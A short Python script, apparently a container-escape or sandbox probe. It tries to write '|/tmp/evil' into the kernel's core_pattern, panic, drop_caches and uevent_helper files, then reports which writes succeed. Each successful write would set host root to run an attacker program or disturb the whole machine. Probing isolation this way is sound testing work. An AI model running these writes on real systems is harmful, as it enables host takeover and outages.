# Writes the /proc and /sys files through which root on the host runs code (core_pattern with a
# leading '|', uevent_helper) or hurts the whole machine (panic, drop_caches).
import errno

for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/panic", "/proc/sys/vm/drop_caches",
             "/sys/kernel/uevent_helper"]:
    try:
        with open(path, "w") as f:
            f.write("|/tmp/evil")
        print(path, "written")
    except OSError as e:
        print(path, errno.errorcode[e.errno])
